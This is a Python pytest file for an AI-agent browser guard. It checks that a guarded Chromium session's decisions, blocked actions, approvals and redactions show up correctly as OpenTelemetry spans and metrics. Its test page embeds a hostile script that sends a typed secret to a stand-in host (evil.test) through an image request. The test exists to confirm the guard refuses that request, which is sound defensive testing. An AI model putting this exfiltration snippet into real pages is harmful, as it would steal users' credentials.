"""A real guarded Chromium session exported to OpenTelemetry (the SDK's in-memory exporter and
metric reader): benign steps, an attack the model blocks, an ASK an approver grants, a page
that tries to send a typed secret to another host (refused by the navigation gate) and copies
a typed note into a button's name. One span per judged step with its decision, policies,
tiers and times; a GenAI child span per model call; the refusal as a span event; the counters
and histograms agree with the spans; neither the secret nor the typed note is in any
attribute."""

from __future__ import annotations

from collections import Counter
from collections.abc import Iterator
from typing import Any

import pytest
from opentelemetry.trace import SpanKind, StatusCode
from playwright.async_api import Page

from pagewarden import ActionBlocked, Guard, GuardError, PolicySet
from pagewarden.telemetry import (
    GEN_AI_TOKENS,
    METRIC_ADDED,
    METRIC_DECISIONS,
    METRIC_LLM_CALLS,
    METRIC_POLICY_DECISIONS,
    METRIC_REFUSALS,
    SPAN_REFUSAL_EVENT,
    SPAN_STEP,
)
from pagewarden.testing import LocalSite, Response, ScriptedLLM

from ._otel import Memory, attribute_strings

SECRET = "pwsecret-otel-4711"  # a valid host label: the page puts it into a host name
TYPED = "otel-typed-note-4242"
FINE = {"policy_violation": False, "violated_policy_ids": [], "goal_deviation": False}
POLICIES = PolicySet.from_dict(
    {
        "version": 1,
        "policies": [
            {"id": "ORG-NET", "category": "boundary", "risk_level": "high",
             "description": "Where the agent may go.",
             "rules": [{"domain_allow": ["app.test", "other.test"]}]},
            {"id": "ORG-ARCHIVE", "category": "boundary", "risk_level": "high",
             "description": "Never archive a project without the owner's written request."},
            {"id": "ORG-CONSENT", "category": "consent", "risk_level": "medium",
             "description": "Transferring ownership needs the user's approval.",
             "rules": [{"consent": {"match": "Transfer ownership", "actions": ["click"]}}]},
        ],
    }
)  # fmt: skip
PAGE = """<!doctype html><html><head><title>Project settings</title></head><body><main>
<h1>Project settings</h1>
<label>Search <input id="search" type="search"></label>
<label>Token <input id="token" name="token"></label>
<label>Note <input id="note" name="note"></label>
<button id="send" aria-label="Send">Send</button>
<section aria-label="Danger zone">
  <button id="archive">Archive project</button>
  <button id="transfer">Transfer ownership</button>
</section></main>
<script>
document.getElementById("token").addEventListener("input", (ev) => {
  const v = ev.target.value;
  if (v.length < 8) return;
  new Image().src = "http://" + v + ".evil.test/i.png?d=" + encodeURIComponent(v);
});
document.getElementById("note").addEventListener("input", (ev) => {
  document.getElementById("send").setAttribute("aria-label", "Send " + ev.target.value);
});
</script></body></html>"""


@pytest.fixture
def llm() -> Iterator[ScriptedLLM]:
    with ScriptedLLM() as server:
        yield server


async def test_a_guarded_session_as_spans_and_metrics(page: Page, site: LocalSite, llm: ScriptedLLM) -> None:
    site.route("app.test", "/otel/settings.html", lambda _r: Response(PAGE))
    llm.on(
        "target name: Archive project",
        {**FINE, "policy_violation": True, "violated_policy_ids": ["ORG-ARCHIVE"],
         "risk_explanation": "archives the project"},
    )  # fmt: skip
    llm.on(None, FINE)
    memory = Memory.new()
    guard = Guard(
        POLICIES, goal="Search the project settings for 'runner' and send a note.",
        llm=llm.config(timeout=20), approver=lambda verdict, step: True, telemetry=memory.pair,
        agent_name="settings-agent", agent_host="runner-7",
    )  # fmt: skip
    guard.add_secret(SECRET, allow_domains=["app.test"])
    guarded = guard.wrap(page)
    outcomes: list[str] = []

    async def act(action: Any) -> None:
        try:
            await action
            outcomes.append("ran")
        except GuardError as exc:
            outcomes.append(type(exc).__name__)

    await act(guarded.goto("http://app.test/otel/settings.html"))
    await act(guarded.fill("#search", "runner"))
    await act(guarded.fill("#token", SECRET))  # the page sends it to <secret>.evil.test: refused
    await page.wait_for_timeout(300)
    await act(guarded.fill("#note", TYPED))  # the page copies it into the Send button's name
    assert await page.get_attribute("#send", "aria-label") == f"Send {TYPED}"
    await act(guarded.click("#send"))
    tracer = memory.tracer_provider.get_tracer("agent")
    with tracer.start_as_current_span("agent.turn") as agent_span, pytest.raises(ActionBlocked) as blocked:
        await guarded.get_by_role("button", name="Archive project").click()
    outcomes.append("ActionBlocked")
    await act(guarded.get_by_role("button", name="Transfer ownership").click())  # ASK, approved
    guard.close()

    steps = memory.finished(SPAN_STEP)
    assert len(steps) == len(outcomes) == 7
    attrs = [dict(s.attributes or {}) for s in steps]
    assert [a["pagewarden.step.index"] for a in attrs] == sorted(a["pagewarden.step.index"] for a in attrs)
    kinds = [a["pagewarden.action.kind"] for a in attrs]
    assert kinds == ["goto", "fill", "fill", "fill", "click", "click", "click"]
    assert all(a["pagewarden.session.id"] == guard.session_id for a in attrs)
    agents = {(a["pagewarden.agent.name"], a["pagewarden.agent.host"]) for a in attrs}
    assert agents == {("settings-agent", "runner-7")}
    assert all(a["pagewarden.url.host"] == "app.test" for a in attrs[1:])
    for a in attrs:  # the deterministic tiers judged every step, with their times
        assert {"worldmodel", "rules"} <= set(a["pagewarden.tiers"])
        assert a["pagewarden.time.observe_ms"] >= 0 and a["pagewarden.added_ms"] > 0

    # the benign search: allowed, no model call
    search = attrs[1]
    assert search["pagewarden.decision"] == "allow" and search["pagewarden.llm.calls"] == 0
    assert (
        search["pagewarden.target.role"] in ("searchbox", "textbox")
        and search["pagewarden.target.name"] == "Search"
    )

    # the attack: blocked by the model, inside the agent's own span, with its GenAI child span
    block_span, block = steps[5], attrs[5]
    verdict = blocked.value.verdict
    assert block["pagewarden.decision"] == "block" and block["pagewarden.policies"] == ("ORG-ARCHIVE",)
    assert (
        block["pagewarden.target.role"] == "button" and block["pagewarden.target.name"] == "Archive project"
    )
    assert "llm" in block["pagewarden.tiers"] and block["pagewarden.llm.calls"] == 1
    assert block["pagewarden.llm.input_tokens"] == verdict.llm["prompt_tokens"] > 0
    assert (
        block_span.parent is not None and block_span.parent.span_id == agent_span.get_span_context().span_id
    )
    children = [
        s
        for s in memory.finished()
        if s.parent is not None and s.parent.span_id == block_span.context.span_id
    ]
    assert len(children) == 1
    chat = children[0]
    assert chat.name == f"chat {llm.model}" and chat.kind is SpanKind.CLIENT
    gen = dict(chat.attributes or {})
    assert gen["gen_ai.operation.name"] == "chat" and gen["gen_ai.provider.name"] == "openai"
    assert gen["gen_ai.request.model"] == llm.model and gen["server.address"] == "127.0.0.1"
    assert gen["gen_ai.usage.input_tokens"] == verdict.llm["prompt_tokens"]
    assert gen["gen_ai.usage.output_tokens"] == verdict.llm["completion_tokens"] > 0
    assert gen["pagewarden.llm.purpose"] == "assess" and "error.type" not in gen
    assert chat.status.status_code is not StatusCode.ERROR
    assert block_span.start_time <= chat.start_time <= chat.end_time <= block_span.end_time
    assert (chat.end_time - chat.start_time) / 1e6 == pytest.approx(
        verdict.llm["requests"][0]["latency_ms"], abs=1
    )

    # the ASK: consent, approved by the approver, which took its time
    ask = attrs[6]
    assert ask["pagewarden.decision"] == "ask" and "ORG-CONSENT" in ask["pagewarden.policies"]
    assert ask["pagewarden.approved_by"] == "approver" and ask["pagewarden.ran"] is True
    assert ask["pagewarden.time.approval_ms"] >= 0

    # the refused exfiltration: a span event of the gate, on the step that followed it at the latest
    events = [(i, e) for i, s in enumerate(steps) for e in s.events if e.name == SPAN_REFUSAL_EVENT]
    gate = [
        (i, dict(e.attributes or {}))
        for i, e in events
        if (e.attributes or {}).get("pagewarden.network.layer") == "gate"
    ]
    assert gate, "the refused request is a span event"
    index, refusal = gate[0]
    assert index in (2, 3) and refusal["pagewarden.network.rule"] == "domain_allow"
    assert refusal["pagewarden.network.policy_id"] == "ORG-NET"
    assert refusal["pagewarden.network.host"] == "[REDACTED:secret-1].evil.test"  # redacted as in traces

    # redaction: the secret (in the host the page built) and the typed note (copied into the
    # button's name) are nowhere; the Send button's name says where the note was
    assert attrs[4]["pagewarden.target.name"] == "Send [typed]"
    strings = list(attribute_strings(memory))
    assert not [s for s in strings if SECRET in s.lower()]
    assert not [s for s in strings if TYPED in s.lower()]

    # the metrics agree with the spans
    decisions = Counter(a["pagewarden.decision"] for a in attrs)
    assert decisions["block"] == 1 and decisions["ask"] == 1 and decisions["allow"] == 5
    assert memory.counts(METRIC_DECISIONS, "pagewarden.decision") == dict(decisions)
    by_policy = memory.counts(METRIC_POLICY_DECISIONS, "pagewarden.policy.id")
    assert by_policy["ORG-ARCHIVE"] == 1 and by_policy["ORG-CONSENT"] == 1
    calls = memory.points(METRIC_LLM_CALLS)
    assert sum(p.count for _, p in calls) == 7
    assert (
        sum(p.sum for _, p in calls)
        == len(llm.chat_requests)
        == sum(a["pagewarden.llm.calls"] for a in attrs)
    )
    added = memory.points(METRIC_ADDED)
    assert sum(p.count for _, p in added) == 7
    assert sum(p.sum for _, p in added) == pytest.approx(
        sum(a["pagewarden.added_ms"] for a in attrs) / 1000, rel=1e-6
    )
    assert memory.counts(METRIC_REFUSALS, "pagewarden.network.layer").get("gate", 0) >= 1
    tokens = {a["gen_ai.token.type"]: p for a, p in memory.points(GEN_AI_TOKENS)}
    assert set(tokens) == {"input", "output"} and tokens["input"].count == len(llm.chat_requests)
